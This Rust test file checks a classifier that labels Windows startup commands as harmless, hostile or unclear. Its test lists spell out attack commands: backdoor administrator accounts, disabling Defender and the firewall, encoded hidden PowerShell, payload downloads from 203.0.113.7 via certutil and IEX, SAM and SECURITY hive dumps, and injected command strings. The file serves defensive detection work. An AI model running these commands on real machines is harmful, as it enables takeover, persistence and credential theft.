//! What commands do.

use super::{Deed, deed, judge};
use crate::evidence::windows::{FirstCommand, Language, Occasion};
use crate::policy::checks::windows::testing::with_context;

fn command(text: &str, language: Language) -> FirstCommand {
    FirstCommand {
        source: "x".into(),
        text: text.into(),
        language,
        certain: true,
        followed: false,
        missing: None,
        writes: Vec::new(),
        reads: Vec::new(),
        piped: false,
        instead: None,
        is_last: true,
        waited: 0,
    }
}

#[test]
fn usual_commands_harm_nobody() {
    let batch = [
        "@echo off",
        "sc config cloudbase-init start= auto",
        "sc.exe config cloudbase-init start=delayed-auto",
        "net start cloudbase-init",
        "net start W32Time",
        "net stop W32Time",
        r"cscript //b %windir%\system32\slmgr.vbs /skms kms.tencentyun.com:1688",
        r"cscript //nologo C:\Windows\System32\slmgr.vbs /ato",
        r"cscript.exe /b /nologo %windir%\system32\slmgr.vbs /ato",
        r#"reg add "HKLM\SOFTWARE\My App" /v Installed /t REG_DWORD /d 1 /f"#,
        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
        r"reg export HKLM\SOFTWARE\My C:\Windows\Temp\my.log /y",
        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU /v AUOptions /t REG_DWORD /d 3 /f",
        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Memory Management" /v PagingFiles /d "C:\pagefile.sys 0 0" /f"#,
        r"cscript //nologo C:\Windows\System32\slmgr.vbs /ato",
        r"echo \\server\share",
        "netsh interface show interface",
        r"reg add HKLM\SOFTWARE\Microsoft\ServerManager /v DoNotOpenServerManagerAtLogon /t REG_DWORD /d 1 /f",
        "timeout /t 5",
        "ping -n 3 127.0.0.1",
        r"del /q C:\Windows\Panther\unattend.xml",
        r"rd /s /q C:\Windows\Setup\Scripts",
        r"del %0",
        "net user administrator /active:yes",
        r#"netsh advfirewall firewall set rule group="remote desktop" new enable=Yes"#,
        r"bcdedit /set {default} recoveryenabled no",
        "set a=b",
        "netsh advfirewall set allprofiles state on",
        r#"netsh advfirewall firewall set rule group="远程桌面" new enable=Yes"#,
        r#"netsh advfirewall firewall add rule name="ICMP" protocol=icmpv4:8,any dir=in action=allow"#,
        r#"w32tm /config /manualpeerlist:"ntpupdate.tencentyun.com,0x9 time1.tencentyun.com,0x9" /syncfromflags:manual /reliable:yes /update"#,
        "sc triggerinfo w32time start/networkon stop/networkoff",
        "sc config RemoteRegistry start= disabled",
        "net user Guest /active:no",
        "net accounts /maxpwage:unlimited",
        "bcdedit /emssettings EMSPORT:1 EMSBAUDRATE:115200",
        "wevtutil cl System",
        "diskpart-line san policy=OnlineAll",
        r"del %TEMP%\dp.txt",
        "taskkill /f /im setup.exe",
        r#"reg delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword /f"#,
        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Services\Disk" /v TimeOutValue /t REG_DWORD /d 200 /f"#,
        "netsh interface teredo set state disabled",
        "netsh int teredo set state type=default",
        r#"netsh interface ipv4 set subinterface "Ethernet" mtu=1400 store=persistent"#,
        "netsh int tcp set global autotuninglevel=normal rss=enabled",
        "netsh int ipv4 set dynamicport tcp start=10000 num=55000",
        "netsh int ip set global taskoffload=disabled",
        "netsh interface 6to4 set state state=disabled",
        "w32tm /resync /nowait /rediscover",
        r"attrib +h C:\Recovery",
        r"attrib -r -s C:\data\*.txt /s /d",
        "reagentc /enable",
        r"icacls C:\inetpub\logs /inheritance:r /grant:r SYSTEM:(OI)(CI)F Administrators:(OI)(CI)F",
        r"icacls C:\data /grant *S-1-5-32-544:(OI)(CI)F /t",
        r#"icacls "C:\Program Files\Shop" /remove:g Users "Authenticated Users" /t /c"#,
        r"icacls %windir%\system32\config\*.* /inheritance:e",
        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Enabled=false" "AutoLogon/Username=Administrator" "AutoLogon/LogonCount=1""#,
        r#"AnswerSettings "Microsoft-Windows-TCPIP" "Interfaces/Interface/Ipv6Settings/DhcpEnabled=true""#,
        r#"AnswerSettings "Security-Malware-Windows-Defender" "DisableAntiSpyware=false""#,
        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "OOBE/HideEULAPage=true" "TimeZone=China Standard Time""#,
        "winrm quickconfig -q -transport:https",
        r#"winrm set winrm/config/winrs @{MaxMemoryPerShellMB="1024";MaxShellsPerUser="50"}"#,
        r#"winrm set winrm/config/winrs '@{MaxShellsPerUser="50"}'"#,
        r#"winrm set winrm/config/service/auth @{Basic="false";Kerberos="true"}"#,
        r#"winrm create winrm/config/listener?Address=*+Transport=HTTPS @{Hostname="x";CertificateThumbprint="00"}"#,
        "winrm enumerate winrm/config/listener",
        r#"netsh advfirewall firewall add rule name="远程桌面" dir=in action=allow protocol=TCP localport=3389"#,
        r#"netsh advfirewall firewall add rule name="Web" protocol=tcp localport=80,443 dir=in action=allow profile=any"#,
        "dism /online /enable-feature /featurename:IIS-WebServer /all /norestart",
        r#"wmic useraccount where name="Administrator" set PasswordExpires=FALSE"#,
        "choice /c yn /t 10 /d y",
        "timeout 60 /nobreak",
        r"cd /d C:\tools",
        "cd..",
        "set PYTHONUTF8=1",
        "powercfg -h off",
        "powercfg /change standby-timeout-ac 0",
        "powercfg /setacvalueindex SCHEME_CURRENT SUB_PROCESSOR PROCTHROTTLEMIN 100",
        "bcdedit /timeout 10",
        r"rd /s /q C:\ProgramData\MyInstaller",
        r#"reg add "HKLM\SOFTWARE\My App" /v Data /d D:\data /f"#,
        "shutdown /r /t 10",
    ];
    let power = [
        "Write-Host 'done'",
        "$a = Get-Date",
        "Start-Sleep -Seconds 3",
        "if (Test-Path C:\\x)",
        "Set-ExecutionPolicy RemoteSigned -Force",
        "Start-Service -Name cloudbase-init",
        "net start W32Time",
        "exit 0",
        "$r = Get-Date; if (Test-Path C:\\x) { Start-Sleep 1 } else { exit 1 }",
        "Get-Process | Where-Object { $_.Name -eq 'x' } | Out-Null",
        "foreach ($i in 1, 2) { Write-Host \"a $i\" }",
        "Set-Service -Name cloudbase-init -StartupType Automatic",
        "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True",
        "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
        "Enable-NetFirewallRule -DisplayGroup '远程桌面'",
        r"Remove-Item -Recurse -Force C:\Windows\Setup\Scripts",
        "Set-Disk -IsOffline $false",
        r"Start-Transcript C:\Windows\Temp\first.log",
        "Enable-PSRemoting -SkipNetworkProfileCheck -Force",
        "New-NetFirewallRule -DisplayName 'HTTP' -Direction Inbound -Protocol TCP -LocalPort 80,443 -Action Allow",
        "Install-WindowsFeature -Name Web-Server, Web-Asp-Net45 -IncludeManagementTools",
        r"Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0",
    ];
    with_context(|context| {
        for text in batch {
            let deed = judge(context, &command(text, Language::Command));
            assert_eq!(deed, Deed::Harmless, "{text}");
        }
        for text in power {
            let deed = judge(context, &command(text, Language::PowerShell));
            assert_eq!(deed, Deed::Harmless, "{text}");
        }
    });
}

#[test]
fn attacks_fail_and_the_rest_can_t_be_told() {
    let hostile = [
        "net user hax P@ss.2024 /add",
        "net1 user hax P@ss /ad",
        "net localgroup Administrators hax /add",
        "net user administrator P@ss.2024",
        "net user administrator /active:no",
        "sc config cloudbase-init start= disabled",
        "sc delete win-agent",
        "sc stop WinDefend",
        "sc config cloudbase-init binPath= C:\\x.exe",
        r"sc create evil type= kernel start= boot binPath= C:\x.sys",
        "bcdedit /set testsigning on",
        "netsh advfirewall set allprofiles state off",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "powershell \u{2013}e SQBFAFgA",
        "certutil -urlcache -f http://203.0.113.7/a a.exe",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\cloudbase-init /v Start /t REG_DWORD /d 4 /f",
        r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\x.exe" /v Debugger /d y"#,
        "taskkill /f /im WinAgent.exe",
        r"rd /s /q C:\WinAgent",
        r"reg export HKLM\SAM C:\Windows\Temp\s.log",
        r"reg export \\.\HKEY_LOCAL_MACHINE\SECURITY\Policy C:\s.reg /y",
        r"reg save HKLM\SAM C:\s",
        r"reg export HKLM\SOFTWARE \\203.0.113.9\x\s.reg",
        "taskkill /f /im MsMpEng.exe",
    ];
    let unclear = [
        r"C:\ProgramData\x.exe",
        r"copy C:\docs\password.txt C:\Users\Public\Desktop\",
        r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe",
        "sc create x binPath= C:\\x.exe",
        "schtasks /create /tn x /tr y",
        "rundll32 x,y",
        "curl http://203.0.113.7/",
        "set path=C:\\x",
        r"call D:\x.cmd",
        r"C:\x\foo.bat",
        r#"powershell -OutputFormat Text -c "net user" C:\none.ps1"#,
        r"reg export HKLM\SOFTWARE\kit C:\x.hta /y",
        r"reg query \\203.0.113.9\HKLM\SOFTWARE",
        r"dir \\203.0.113.9\x",
        r"type //203.0.113.9/x/a",
        r"mkdir \\?\UNC\203.0.113.9\x",
        r"find /v x \\203.0.113.9\x\a",
        r"net view \\203.0.113.9",
        r"net time \\203.0.113.9 /set /y",
        "tasklist /s 203.0.113.9",
        "systeminfo /s 203.0.113.9 /u x /p y",
        "taskkill /f /im YDService.exe",
        "taskkill /f /im BaradAgent.exe",
        r"netsh interface portproxy add v4tov4 listenport=1 connectaddress=203.0.113.9 show",
        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU /v NoAutoUpdate /t REG_DWORD /d 1 /f",
        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU /v AUOptions /t REG_DWORD /d 1 /f",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Config /v MaxPosPhaseCorrection /t REG_DWORD /d 0 /f",
        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Memory Management" /v PagingFiles /d "C:\WinAgent\WinAgent.exe 1 1" /f"#,
        r"del /q C:\Windows\System32\x.dll",
        "netsh interface ip set dns x static 203.0.113.9",
        "sc config cloudbase-init start= demand",
        "diskpart-line clean",
        r"diskpart /s C:\x.txt",
        r"del %TEMP%\..\System32\x.dll",
        r"sort C:\x.txt /o C:\x.bat",
        "w32tm /unregister",
        "w32tm /config /syncfromflags:NO /update",
        "w32tm /config /manualpeerlist:203.0.113.9 /syncfromflags:manual /update",
        "w32tm /config /manualpeerlist:x.tencentyun.com.evil.example /update",
        "net accounts /lockoutthreshold:0 /minpwlen:0",
        r"del /f /q C:\WIN-AG~1\*",
        r"rd /s /q C:\PROGRA~1\QCloud",
        "taskkill /f /im Ms*",
        "taskkill /f /fi \"imagename eq MsMpEng.exe\"",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\CrashControl /v DumpFilters /d x.sys /f",
        r"reg add HKLM\SOFTWARE\Tencent\WinAgent /v Server /d 203.0.113.7 /f",
        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\SCHANNEL\Protocols\SSL 2.0\Server" /v Enabled /t REG_DWORD /d 1 /f"#,
        r"cscript //b C:\Windows\System32\slmgr.vbs /skms 203.0.113.7",
        r"cscript /e:mine C:\Windows\System32\slmgr.vbs /ato",
        r"C:\ProgramData\build.cmd",
        r"C:\Windows\Temp\build.cmd",
        r"C:\build\x.bat /all",
        r"powershell -NoProfile -File C:\ProgramData\x.ps1",
        r#"netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=4444"#,
        "netsh advfirewall firewall add rule name=x dir=in action=allow",
        "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=80-65000",
        "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=80 localport=445",
        "netsh advfirewall firewall add rule name=x dir=in action=block protocol=tcp localport=3389",
        r"netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=80 program=C:\x.exe",
        r#"winrm set winrm/config/service @{AllowUnencrypted="true"}"#,
        r#"winrm set winrm/config/service/auth @{Basic="true"}"#,
        r#"winrm set winrm/config/service @{MaxConnections="5";AllowUnencrypted="true"}"#,
        r#"winrm set winrm/config/client @{TrustedHosts="*"}"#,
        r#"winrm set winrm/config/service @{RootSDDL="O:NSG:BAD:P(A;;GA;;;WD)"}"#,
        "winrm create winrm/config/listener?Address=*+Transport=HTTP",
        "winrm invoke create wmicimv2/win32_process @{commandline=x.exe}",
        "dism /online /enable-feature /featurename:IIS-FTPServer /all",
        "dism /online /enable-feature /featurename:SMB1Protocol /all",
        r"dism /online /enable-feature /featurename:NetFx3 /source:C:\x",
        r"C:\ProgramData\lodctr.exe /r",
        r#"AnswerSettings "Networking-MPSSVC-Svc" "PublicProfile_EnableFirewall=false""#,
        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "UserAccounts/DomainAccounts/DomainAccountList/Domain=x""#,
        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Enabled=true" "AutoLogon/Username=x""#,
        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Enabled=false" "AutoLogon/Enabled=true" "AutoLogon/Username=x""#,
        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "AutoLogon/Username=x""#,
        r#"AnswerSettings "Microsoft-Windows-TCPIP" "Interfaces/Interface/Ipv6Settings/DhcpEnabled=false""#,
        r#"AnswerSettings "Security-Malware-Windows-Defender" "DisableAntiSpyware=true""#,
        "netsh interface teredo set state enterpriseclient 203.0.113.7",
        "netsh interface teredo set state servername=203.0.113.7",
        "netsh interface 6to4 set relay 203.0.113.7",
        "netsh interface isatap set router 203.0.113.7",
        "netsh interface ipv4 set subinterface Ethernet mtu=68",
        "netsh interface ipv4 set global sourceroutingbehavior=forward",
        "netsh interface portproxy add v4tov4 listenport=3389 connectaddress=203.0.113.7",
        "netsh interface ipv4 add route 0.0.0.0/0 Ethernet 203.0.113.9",
        "netsh winhttp set proxy 203.0.113.9:8080",
        "w32tm /resync /computer:203.0.113.9",
        r"attrib +h WinAgent.exe",
        r"attrib +r C:\WinAgent\*.*",
        r"attrib +r C:\*.* /s",
        r"attrib +r C:\WINAGE~1\x",
        r"icacls C:\WinAgent /inheritance:r /grant:r SYSTEM:F Administrators:F",
        r"icacls C:\data /inheritance:r /grant:r Administrators:F",
        r"icacls C:\data /grant Everyone:F",
        r"icacls C:\data /remove:g SYSTEM",
        r"icacls C:\data /remove:d Users",
        r"icacls C:\data /deny SYSTEM:F",
        r"icacls C:\data /reset /t",
        r"icacls C:\data /setowner x",
        r"icacls C:\ /inheritance:r /grant:r SYSTEM:F Administrators:F",
        r"icacls C:\Windows\System32 /remove:g Users",
        r"icacls C:\Users /remove:g Users",
        "mshta http://203.0.113.7/",
        "ping -t 127.0.0.1",
        "ping -n 99999999 127.0.0.1",
        "timeout /t -1",
        "timeout /t 100000",
        "choice /c yn",
        r"cd /d E:\tools",
        r"pushd \\203.0.113.7\x",
        r"set COR_PROFILER_PATH=C:\x\x.dll",
        r#"set "PYTHONPATH=C:\x""#,
        "powercfg /hibernate on",
        "powercfg /change standby-timeout-ac 1",
        "powercfg /setdcvalueindex SCHEME_CURRENT SUB_SLEEP STANDBYIDLE 60",
        "bcdedit /timeout 4294967295",
        r"del /f /q C:\Boot\BCD",
        r"rd /s /q C:\EFI",
        r"rd /s /q C:\ProgramData\QCloud",
        r"del /s /q C:\ProgramData\*",
        r"reg add HKLM\SOFTWARE\JavaSoft\JRE /v Jvm /d C:\x\x.dll /f",
        "reg add HKLM\\SOFTWARE\\My /v Server /d https://203.0.113.7/ /f",
        // Known names of other folders.
        r"C:\ProgramData\ping.exe -n 3 127.0.0.1",
        r"C:\ProgramData\echo.exe",
        r"..\sc.exe config cloudbase-init start= auto",
        r"reg add HKLM\SOFTWARE\Python\PythonCore\3.11\PythonPath\x /d C:\x",
    ];
    let power = [
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
        "iex $a",
        "New-LocalUser x",
        "net user hax P@ss.2024 /add",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "echo 1; net user hax P@ss.2024 /add",
        "$r = net user hax P@ss.2024 /add",
        "if (net user hax P@ss.2024 /add) {}",
        "switch (1) { 1 { net user hax P@ss.2024 /add } }",
        "Write-Host `\" ; net user hax P@ss.2024 /add ; `\"",
        r"cd \; Set-Service cloudbase-init -StartupType Disabled",
        "Set-NetFirewallProfile -All -Enabled False",
    ];
    with_context(|context| {
        for text in hostile {
            let deed = judge(context, &command(text, Language::Command));
            assert!(matches!(deed, Deed::Hostile(_)), "{text}: {deed:?}");
        }
        for text in unclear {
            let deed = judge(context, &command(text, Language::Command));
            assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
        }
        for text in power {
            let deed = judge(context, &command(text, Language::PowerShell));
            assert!(matches!(deed, Deed::Hostile(_)), "{text}: {deed:?}");
        }
        for text in [
            "$x.Invoke()",
            r"Get-Content \\203.0.113.9\x\a",
            "Get-Service -ComputerName 203.0.113.9",
            "[Console]::Beep()",
            "Foo-Bar",
            "Get-Foo",
            ". x.ps1",
            "& $a",
            "$x",
            "$a = $b.Start($c)",
            r"cd C:\x; .\upd.exe",
            r"$r = C:\x\upd.exe install",
            r"if (C:\x\upd.exe) { }",
            r"return C:\x\upd.exe",
            r"foreach ($i in C:\x\upd.exe) { }",
            r"Write-Host (C:\x\upd.exe)",
            "$env:PSModulePath = 'C:\\x'",
            "$PSDefaultParameterValues = 1",
            r"Start-Transcript C:\x.bat",
            "Write-Host 'net user' > C:\\x.bat",
            r"set a C:\x\upd.exe",
            "sc C:\\x.bat y",
            "Get-Service x | ForEach-Object Stop",
            "Write-Host \"$(x)\"",
            "Enable-PSRemoting -Force -Foo",
            "New-NetFirewallRule -DisplayName x -Direction Inbound -Action Allow",
            "New-NetFirewallRule -DisplayName x -Protocol TCP -LocalPort 445 -Action Allow",
            "New-NetFirewallRule -DisplayName x -Protocol TCP -LocalPort 80 -Action Block",
            "Install-WindowsFeature Web-Server,Web-Ftp-Server",
            r"Install-WindowsFeature Web-Server -Source C:\x",
            r"Remove-Item -Recurse C:\Windows\System32",
            "Set-Disk -IsOffline $true",
            "Enable-NetFirewallRule -DisplayName *",
        ] {
            let deed = judge(context, &command(text, Language::PowerShell));
            assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
        }
    });
}

#[test]
fn what_runs_again_and_again_changes_nothing() {
    with_context(|context| {
        for text in [
            "shutdown /r /t 0",
            "wevtutil cl System",
            r"wevtutil sl Security /ms:1",
            "net accounts /maxpwage:unlimited",
            "net stop W32Time",
            "sc config RemoteRegistry start= disabled",
            "taskkill /f /im explorer.exe",
            r"reg add HKLM\SOFTWARE\My /v x /t REG_DWORD /d 1 /f",
            "bcdedit /timeout 10",
            "netsh winsock reset",
            "ipconfig /release",
            r"del /q C:\Windows\Panther\unattend.xml",
        ] {
            let again = deed(context, text, Language::Command, Occasion::Boot);
            assert!(matches!(again, Deed::Unclear(_)), "{text}: {again:?}");
        }
        let once = deed(
            context,
            "wevtutil cl System",
            Language::Command,
            Occasion::FirstBoot,
        );
        assert_eq!(once, Deed::Harmless);
        for text in [
            "echo x",
            "sc start W32Time",
            "net start W32Time",
            "w32tm /resync",
            r"reg query HKLM\SOFTWARE",
            "ipconfig /all",
            r"del /q C:\Windows\Temp\*",
            r"echo x >> C:\Windows\Temp\a.log",
            "timeout /t 5 & echo x",
        ] {
            let again = deed(context, text, Language::Command, Occasion::Logon);
            assert_eq!(again, Deed::Harmless, "{text}");
        }
        for text in [
            "Set-ExecutionPolicy RemoteSigned -Force",
            "Stop-Service W32Time",
            "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True",
        ] {
            let again = deed(context, text, Language::PowerShell, Occasion::Boot);
            assert!(matches!(again, Deed::Unclear(_)), "{text}: {again:?}");
        }
        for text in ["Get-Date", "Start-Service W32Time", "Start-Sleep 3"] {
            let again = deed(context, text, Language::PowerShell, Occasion::Boot);
            assert_eq!(again, Deed::Harmless, "{text}");
        }
        // What is written stands behind the command.
        let text = r"echo calc > C:\x.bat";
        let written = deed(context, text, Language::Command, Occasion::FirstBoot);
        assert!(matches!(written, Deed::Unclear(_)), "{written:?}");
    });
}

#[test]
fn waits_are_summed_and_a_missing_script_is_a_fact() {
    with_context(|context| {
        let mut ping = command("ping -n 600 127.0.0.1", Language::Command);
        assert_eq!(judge(context, &ping), Deed::Harmless);
        ping.waited = 1200;
        assert!(matches!(judge(context, &ping), Deed::Unclear(_)));
        for text in [r"C:\x\foo.bat", r"powershell -File C:\x\foo.ps1"] {
            let mut call = command(text, Language::Command);
            assert!(matches!(judge(context, &call), Deed::Unclear(_)), "{text}");
            call.missing = Some(r"C:\Windows\Setup\Scripts\foo.bat".into());
            assert_eq!(judge(context, &call), Deed::Harmless, "{text}");
            // Others than administrators may put it there.
            call.missing = Some(r"C:\ProgramData\x\foo.bat".into());
            assert!(matches!(judge(context, &call), Deed::Unclear(_)), "{text}");
        }
    });
}

#[test]
fn what_is_found_first_and_what_nothing_stands_behind_is_told() {
    with_context(|context| {
        let mut ping = command("ping 127.0.0.1", Language::Command);
        ping.instead = Some(r"C:\ProgramData\x\ping.exe".into());
        assert_eq!(
            ping.carried_out(),
            r#""C:\ProgramData\x\ping.exe" 127.0.0.1"#
        );
        assert!(matches!(judge(context, &ping), Deed::Unclear(_)));
        let mut restart = command("shutdown /r /t 0", Language::Command);
        restart.is_last = false;
        assert!(matches!(judge(context, &restart), Deed::Unclear(_)));
        for (path, harmless) in [
            (r"C:\Windows\Temp\a.txt", true),
            (r"C:\install\logs\a.txt", true),
            (r"C:\My App\a.log", true),
            (r"C:\ProgramData\ssh\keys.txt", false),
            (r"C:\My App\plugins.txt", false),
            (r"C:\Boot\a.log", false),
        ] {
            let mut echo = command("echo x", Language::Command);
            echo.writes = vec![path.into()];
            let deed = judge(context, &echo);
            assert_eq!(deed == Deed::Harmless, harmless, "{path}: {deed:?}");
        }
    });
}
